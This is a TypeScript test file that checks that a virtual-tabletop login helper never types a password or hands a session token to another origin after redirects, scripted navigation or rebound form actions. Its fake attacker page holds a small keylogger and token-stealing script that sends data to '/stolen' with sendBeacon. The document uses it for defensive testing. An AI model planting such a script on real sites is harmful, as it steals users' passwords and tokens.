import { createServer } from 'node:http';
import type { IncomingMessage, Server, ServerResponse } from 'node:http';
import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { servePage } from './door.ts';
import { password, startRig } from './rig.ts';
import type { Rig } from './rig.ts';

/** A tabletop that leads elsewhere: what is secret is for the address that a session was started for. */
let rig: Rig;
/** A demo world in all that a session looks at, which tells what it is given. */
let elsewhere: string;
let server: Server;
let stolen: string[];
beforeAll(async () => {
  rig = await startRig();
  await rig.startHost({ headlessStageMs: 6_000 });
  server = createServer((request, response) => void answerAsWorld(request, response));
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  elsewhere = `http://127.0.0.1:${address.port}`;
});
afterAll(async () => {
  server.closeAllConnections();
  server.close();
  await rig.stop();
});
beforeEach(() => void (stolen = []));

const meta = '<meta name=tabletop content=demo-world>';
const form = (action = '') =>
  `<form method=post action="${action}"><select name=user><option>Ada</select>
   <input type=password name=password><button>Log in</button></form><p role=alert></p>`;
/** Tells of each key that is pressed, and of the token that the module would read. */
const spy = `<script>
  const tell = (what) => navigator.sendBeacon('/stolen', what);
  document.addEventListener('input', ({ target }) => tell(target.value));
  const look = () => localStorage.getItem('demo-world.connectionToken');
  setInterval(() => look() && tell(look()), 20);
</script>`;
const board = '<main class=board>A board</main>';

const worldData = JSON.stringify({
  user: { isGameMaster: true },
  settings: { clientId: '', pairedRelayUrl: '' },
  world: { worldId: 'w', worldTitle: 'W', systemId: 's' },
});

async function answerAsWorld(request: IncomingMessage, response: ServerResponse): Promise<void> {
  if (request.url === '/stolen' || request.method === 'POST') stolen.push(await text(request));
  if (request.url === '/play/world') return void response.end(worldData);
  response.setHeader('content-type', 'text/html');
  response.end(meta + spy + (request.url === '/play' ? board : form()));
}

/** A tabletop whose answers the test gives, by path; every other is a page of a demo world. */
async function serveTabletop(answers: Record<string, string | { location: string }>): Promise<string> {
  return await servePage((request, response) => {
    const answer = answers[request.url ?? ''];
    if (typeof answer === 'object') return response.writeHead(302, answer).end();
    response.setHeader('content-type', 'text/html');
    return response.end(answer ?? `${meta}${form()}`);
  });
}

it.each<[string, () => Record<string, string | { location: string }>]>([
  ['redirects there at once', () => ({ '/': { location: `${elsewhere}/login` } })],
  ['redirects there at the log-in', () => ({ '/play': { location: `${elsewhere}/login` } })],
  [
    'goes there by a script when it was recognised',
    () => ({ '/play': `${meta}<script>location.replace("${elsewhere}/login")</script>` }),
  ],
  ['has a form that leads there', () => ({ '/play': meta + form(`${elsewhere}/login`) })],
  [
    'has a form that leads there by its base',
    () => ({ '/play': `${meta}<base href="${elsewhere}/">${form('login')}` }),
  ],
  [
    'has a button that leads there',
    () => ({ '/play': meta + form().replace('<button', `<button formaction="${elsewhere}/login"`) }),
  ],
])('the password is typed nowhere else, where the tabletop %s', async (_how, answers) => {
  // The page of the log-in is shown under the path of the world, as a tabletop does where nobody is logged in.
  const tabletopUrl = await serveTabletop({ '/login': `${meta}${form()}`, ...rewritten(answers()) });
  const { body } = await rig.sessions.logIn({ tabletopUrl, username: 'Ada', password });
  expect(stolen).toEqual([]);
  expect(body).toMatchObject({
    code: 'session_failed',
    detail: expect.stringContaining(elsewhere),
  });
});

/** The demo world shows its form at any path that is not the world's. */
function rewritten(answers: Record<string, string | { location: string }>) {
  const { '/play': play, ...others } = answers;
  if (typeof play !== 'string') return answers;
  return { ...others, '/play': { location: '/form' }, '/form': play };
}

it('a world elsewhere gets no token, where the tabletop leads there after the log-in', async () => {
  const tabletopUrl = await serveTabletop({ '/play': { location: `${elsewhere}/play` } });
  const { body } = await rig.sessions.logIn({ tabletopUrl, username: 'Ada', password });
  expect(stolen).toEqual([]);
  expect(body).toMatchObject({ code: 'session_failed', detail: expect.stringContaining(elsewhere) });
});

it('a page that goes elsewhere between the look at its world and its token gets none', async () => {
  const leave = `<script>
    const get = fetch;
    let looks = 0;
    globalThis.fetch = (...given) => {
      if (++looks === 2) setTimeout(() => location.replace('${elsewhere}/play'), 30);
      return get(...given);
    };
  </script>`;
  const tabletopUrl = await serveTabletop({ '/play': meta + board + leave, '/play/world': worldData });
  const { body } = await rig.sessions.logIn({ tabletopUrl, username: 'Ada', password });
  expect(stolen).toEqual([]);
  expect(body).toMatchObject({
    code: 'session_failed',
    stage: 'module',
    detail: expect.stringContaining(elsewhere),
  });
});
